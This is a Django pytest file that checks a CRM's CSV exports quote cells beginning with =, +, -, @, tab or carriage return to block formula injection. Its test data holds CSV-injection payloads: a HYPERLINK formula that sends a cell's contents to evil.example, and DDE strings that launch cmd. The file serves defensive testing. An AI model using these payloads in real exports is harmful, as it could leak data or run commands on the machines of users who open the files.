"""Every CSV export guards against formula injection (core.csv_safety): a name, note or address that starts with
= + - @ (or a tab or carriage return) comes out behind a single quote, while the figures stay numbers, negative
ones included. One test per export; a new export is found by `test_every_csv_export_is_tested`."""

import csv
import io
from datetime import UTC, datetime

import pytest
from django.urls import get_resolver, reverse

from accounts.audit import record_audit
from accounts.models import AuditAction
from clients.models import Client
from tests.factories.clients import ClientFactory, TagFactory
from tests.factories.contacts import ContactFactory
from tests.factories.interactions import InteractionFactory
from tests.factories.segments import SegmentFactory

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
]
TESTED_EXPORTS = {
    "contacts:client_export",
    "dashboards:export_kpis",
    "dashboards:export_managers",
    "accounts:audit_export",
}


def read_csv(response) -> list[list[str]]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8").lstrip("\ufeff"))))


def cells(rows) -> list[str]:
    return [cell for row in rows for cell in row]


def assert_no_formula(rows) -> None:
    """No cell starts with a character a spreadsheet runs as a formula, unless it is a plain number."""
    for cell in cells(rows):
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            float(cell)  # raises for anything but a number such as -3 or -12.50


def test_every_csv_export_is_tested():
    """URL names ending in .csv (and the client export) are the exports: each must be in TESTED_EXPORTS."""
    exports = set()

    def walk(patterns, namespace=""):
        for pattern in patterns:
            if hasattr(pattern, "url_patterns"):
                walk(pattern.url_patterns, f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace)
            elif str(pattern.pattern).endswith(".csv") and pattern.name:
                exports.add(f"{namespace}{pattern.name}")

    walk(get_resolver().url_patterns)
    assert exports <= TESTED_EXPORTS, exports - TESTED_EXPORTS


@pytest.mark.parametrize("formula", FORMULAS)
def test_the_client_export_quotes_formulas_in_every_text_column(org, as_user, formula):
    client = ClientFactory(
        name=f"{formula} UAB",
        registration_code=formula[:30],
        city=formula,
        address=formula,
        notes=formula,
        account_manager=org.manager,
    )
    client.tags.set([TagFactory(name=formula[:40])])
    ContactFactory(client=client, full_name=formula, position=formula, is_primary=True)

    rows = read_csv(as_user(org.manager).get(reverse("contacts:client_export")))

    header, row = rows[0], next(row for row in rows if row[0].startswith("'"))
    by_column = dict(zip(header, row, strict=True))
    for column in ("name", "registration_code", "city", "address", "notes", "tags", "contact_name", "contact_position"):
        assert by_column[column][:2] == f"'{formula[0]}", column
    assert_no_formula(rows)


def test_the_client_export_re_imports_the_quoted_values_as_they_were(org, as_user):
    ClientFactory(name="=1+2 UAB", city="+Vilnius", notes="@home", account_manager=org.manager)
    http = as_user(org.manager)
    text = b"".join(http.get(reverse("contacts:client_export"), {"q": "=1+2"}).streaming_content).decode()
    Client.objects.filter(name="=1+2 UAB").delete()

    report = http.post(reverse("contacts:client_import"), {"csv_text": text.lstrip("\ufeff")})

    assert report.status_code == 302
    client = Client.objects.get(name="=1+2 UAB")
    assert (client.city, client.notes) == ("+Vilnius", "@home")


@pytest.fixture
def dashboard_payloads(org):
    """Names a lead or an admin typed: the team, a manager and a segment start with formula characters; and one
    figure falls from the previous period, so its change is negative."""
    org.north.name = "=cmd|' /C calc'!A0"
    org.north.save()
    org.manager.full_name = "@SUM(1+1)"
    org.manager.save()
    org.segment = SegmentFactory(name="+HYPERLINK(1)")
    InteractionFactory(client=org.client, occurred_at=datetime(2025, 2, 20, 10, tzinfo=UTC))  # previous period
    return org


MARCH = {"period": "custom", "date_from": "2025-03-01", "date_to": "2025-03-31"}


@pytest.mark.parametrize("name", ["dashboards:export_kpis", "dashboards:export_managers"])
def test_the_dashboard_exports_quote_names_and_keep_negative_changes_numbers(dashboard_payloads, as_user, name):
    org = dashboard_payloads
    query = {**MARCH, "team": org.north.pk, "segment": org.segment.pk}

    rows = read_csv(as_user(org.admin).get(reverse(name), query))

    assert ["Team", "'=cmd|' /C calc'!A0"] in rows
    assert ["Segment", "'+HYPERLINK(1)"] in rows
    assert_no_formula(rows)
    if name == "dashboards:export_kpis":
        interactions = next(row for row in rows if row[1:2] == ["interactions"])
        assert interactions[3:6] == ["0", "1", "-1"]  # value, previous value, change: a number a sheet can add
    else:
        assert "'@SUM(1+1)" in cells(rows)


def test_the_audit_log_export_quotes_what_visitors_typed(org, as_user):
    record_audit(actor=org.admin, action=AuditAction.EXPORT, subject="=HYPERLINK(1)", details={"q": "@x"})

    rows = read_csv(as_user(org.admin).get(reverse("accounts:audit_export")))

    assert "'=HYPERLINK(1)" in cells(rows)
    assert_no_formula(rows)
